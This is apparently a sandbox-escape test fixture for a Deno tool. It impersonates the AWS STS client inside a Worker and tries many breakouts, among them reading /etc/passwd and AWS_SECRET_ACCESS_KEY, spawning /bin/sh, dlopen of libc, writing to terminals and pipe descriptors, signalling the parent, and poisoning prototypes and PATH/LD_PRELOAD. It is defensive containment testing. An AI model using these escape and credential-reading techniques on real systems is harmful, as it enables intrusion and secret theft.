// Stands in the SDK's place and tries to break out of the Worker. What succeeded is reported to the one host it
// may reach; then it answers as the SDK would, so that the test sees which command is started, and how.

const { url, otherPort, marker, sources } = SCENE;

async function attempt(name, action) {
  try {
    const value = await action();
    return [name, `succeeded: ${String(value).slice(0, 80)}`];
  } catch (error) {
    return [name, `blocked: ${error?.name}`];
  }
}

const ATTEMPTS = {
  "re-import the module that opens the C library": () =>
    import(`${sources}/os/libc.ts`).then((m) => m.openLibc().environment().length),
  "import a file as JSON": () =>
    import(`file://${marker}.json`, { with: { type: "json" } }).then((m) => m.default),
  "import a file as code": () => import(`file://${marker}.js`).then((m) => m.default),
  "open a library": () =>
    Deno.dlopen("/lib/x86_64-linux-gnu/libc.so.6", { getpid: { parameters: [], result: "i32" } })
      .symbols.getpid(),
  "take a pointer": () => Deno.UnsafePointer.of(new Uint8Array(1)),
  "start a process": () =>
    new Deno.Command("/bin/sh", { args: ["-c", `touch ${marker}`] }).outputSync().code,
  "start a process through node": () =>
    import("node:child_process").then((m) => m.execSync(`touch ${marker}`)),
  "read a file": () => Deno.readTextFileSync("/etc/passwd"),
  "read a file through node": () =>
    import("node:fs").then((m) => m.readFileSync("/etc/passwd", "utf8")),
  "write a file": () => Deno.writeTextFileSync(marker, "x"),
  "open the terminal": () => Deno.openSync("/dev/tty", { read: true }),
  "import from npm": () => import(["npm", "left-pad@1.3.0"].join(":")),
  "import from npm what says a secret": () => import(["npm", "a-secret"].join(":")),
  "import from JSR": () => import(["jsr", "@a/secret"].join(":")),
  "import from the web": () => import(["https", "//example.org/x.js"].join(":")),
  "fetch an unlisted host": () => fetch("https://example.org/"),
  "fetch another port of this machine": () =>
    fetch(`http://127.0.0.1:${otherPort}/`).then((r) => r.status),
  "be redirected to an unlisted host": () => fetch(`${url}/redirect`).then((r) => r.status),
  "open a WebSocket to another port": () =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://127.0.0.1:${otherPort}/`);
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error("refused"));
    }),
  "connect by TCP": () =>
    Deno.connect({ hostname: "127.0.0.1", port: otherPort }).then((c) => c.close()),
  "listen": () => Deno.listen({ hostname: "127.0.0.1", port: 0 }).close(),
  "ask the DNS": () => Deno.resolveDns("example.org", "A"),
  "ask for more permissions": () =>
    Deno.permissions.request({ name: "read" }).then(({ state }) => {
      if (state !== "granted") throw new Error(state);
    }),
  "start a Worker with more permissions": () =>
    new Promise((resolve, reject) => {
      const code = "postMessage(Deno.readTextFileSync('/etc/passwd').length)";
      const worker = new Worker(`data:application/javascript,${encodeURIComponent(code)}`, {
        type: "module",
        deno: { permissions: "inherit" },
      });
      worker.onmessage = resolve;
      worker.onerror = (event) => (event.preventDefault(), reject(new Error("refused")));
    }),
  "see the secret in the environment": () => {
    const secret = Deno.env.get("AWS_SECRET_ACCESS_KEY") ??
      globalThis.process?.env?.AWS_SECRET_ACCESS_KEY;
    if (secret === undefined) throw new Error("unset");
  },
  "send a signal": () => Deno.kill(Deno.ppid, "SIGTERM"),
  "keep something in localStorage": () => localStorage.setItem("x", "1"),
};

/** Writes where a shell may run it, and reads what is the command's: no permission is asked for that. */
async function shout() {
  const bytes = new TextEncoder().encode("\x1b]0;hostile\x07hostile\n");
  for (const stream of [Deno.stdout, Deno.stderr]) {
    try {
      stream.writeSync(bytes);
    } catch { /* closed to it */ }
  }
  // deno-lint-ignore no-console
  console.log("hostile");
  // deno-lint-ignore no-console
  console.error("hostile");
  try {
    const { writeSync } = await import("node:fs");
    for (let descriptor = 1; descriptor < 30; descriptor++) {
      try {
        writeSync(descriptor, bytes);
      } catch { /* closed to it */ }
    }
  } catch { /* not there */ }
  try {
    Deno.stdin.readSync(new Uint8Array(100));
  } catch { /* closed to it */ }
  await shoutThroughSockets(bytes);
}

/** Kept: one that is collected closes its descriptor, and this realm has some of its own to lose. */
const sockets = [];

/** Deno 2.9 opens any descriptor that is a pipe, and asks for no permission (node:net). */
async function shoutThroughSockets(bytes) {
  try {
    const { Socket } = await import("node:net");
    for (let fd = 0; fd < 256; fd++) {
      try {
        const socket = new Socket({ fd });
        sockets.push(socket);
        socket.on("error", () => {});
        if (socket._handle?.constructor.name !== "PipeWrap") continue;
        socket.write(bytes);
        // What waits on stdin is the command's.
        socket.resume();
      } catch { /* not there, or of another kind */ }
    }
    await new Promise((resolve) => setTimeout(resolve, 20));
  } catch { /* not there */ }
}

await shout();

/** What stays without effect, whether it throws or not: the test looks at the session for it. */
function mischief() {
  for (const name of ["PATH", "LD_PRELOAD", "AWS_PROFILE", "UNTOUCHED"]) {
    try {
      Deno.env.set(name, "hostile");
    } catch { /* as it should be */ }
  }
  TextEncoder.prototype.encode = () => new Uint8Array([104, 105]);
  Map.prototype.get = () => "hostile";
  Array.prototype.map = () => ["hostile"];
  try {
    (0, eval)("globalThis.close = () => {}");
  } catch { /* as it should be */ }
}

export class AssumeRoleCommand {
  constructor(input) {
    this.input = input;
  }
}

export class GetCallerIdentityCommand {}

export class STSClient {
  async send({ input }) {
    await shout();
    const results = [];
    for (const [name, action] of Object.entries(ATTEMPTS)) {
      results.push(await attempt(name, action));
    }
    await fetch(url, { method: "PUT", redirect: "manual", body: new URLSearchParams(results) });
    const [, , , , account, role] = input.RoleArn.split(/[:]/);
    mischief();
    postMessage({ type: "exec", id: 1, command: ["/bin/false"] });
    return {
      Credentials: {
        AccessKeyId: "ASIAEXAMPLEEXAMPLE00",
        SecretAccessKey: "hostile",
        SessionToken: "hostile",
        Expiration: new Date(Date.now() + 3600_000),
      },
      AssumedRoleUser: {
        Arn: `arn:aws:sts::${account}:assumed-role/${
          role.split("/").at(-1)
        }/${input.RoleSessionName}`,
      },
    };
  }
}
